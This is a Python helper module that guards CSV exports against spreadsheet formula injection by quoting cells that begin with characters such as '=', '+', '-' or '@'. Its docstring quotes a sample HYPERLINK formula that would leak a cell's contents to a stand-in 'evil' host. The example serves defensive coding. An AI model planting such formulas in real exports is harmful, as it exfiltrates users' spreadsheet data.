"""CSV cells that a spreadsheet will not run: a text cell that starts with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is a formula to Excel, LibreOffice and Google Sheets (a slice named
``=HYPERLINK("http://evil/?"&A1, "open")``), so it is written with a leading ``'``, which they show
as text (OWASP's advice on CSV injection). Numbers stay numbers: a negative score is no formula,
and neither is text that reads as a number (``-0.5``).

Example:
    >>> [safe_cell(v) for v in ["=1+2", "@SUM(A1)", "-0.5", "cell7", -0.5, 3, None]]
    ["'=1+2", "'@SUM(A1)", '-0.5', 'cell7', -0.5, 3, None]
"""

from __future__ import annotations

from typing import Any

__all__ = ["safe_cell", "safe_row"]

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` unchanged, unless it is text a spreadsheet would read as a formula: then ``'`` + it."""
    if not isinstance(value, str) or not value.startswith(_FORMULA_STARTS):
        return value
    try:
        float(value)
    except ValueError:
        return "'" + value
    return value  # a number written as text


def safe_row(row: Any) -> Any:
    """A row (list, tuple or dict of cells) with every cell through :func:`safe_cell`."""
    if isinstance(row, dict):
        return {k: safe_cell(v) for k, v in row.items()}
    return [safe_cell(v) for v in row]
